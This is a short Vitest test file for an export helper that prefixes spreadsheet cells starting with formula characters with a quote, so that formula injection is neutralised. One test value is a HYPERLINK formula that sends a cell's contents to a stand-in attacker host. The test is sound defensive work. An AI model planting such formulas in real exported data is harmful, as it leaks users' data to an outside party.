import { describe, expect, it } from "vitest";
import { asTextCell } from "@/lib/exports/cells";

describe("asTextCell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'],
    ["=1+1"],
    ["+1+1"],
    ["-1+1"],
    ["@SUM(1+1)"],
    ["\t=1+1"],
    ["\r=1+1"],
  ])("prefixes %j with a quote so it stays text", (value) => {
    expect(asTextCell(value)).toBe(`'${value}`);
  });

  it("leaves other text alone, including formula characters further in", () => {
    for (const value of ["Anna Nowak", "Spółdzielnia \"Razem\"", "1+1=2", " =1+1", "'=1+1", "", "Biznesplan – etap 2"]) {
      expect(asTextCell(value)).toBe(value);
    }
  });

  it("keeps numbers as numbers, negative ones too", () => {
    expect(asTextCell(-1.5)).toBe(-1.5);
    expect(asTextCell(0)).toBe(0);
    expect(asTextCell(90)).toBe(90);
  });
});
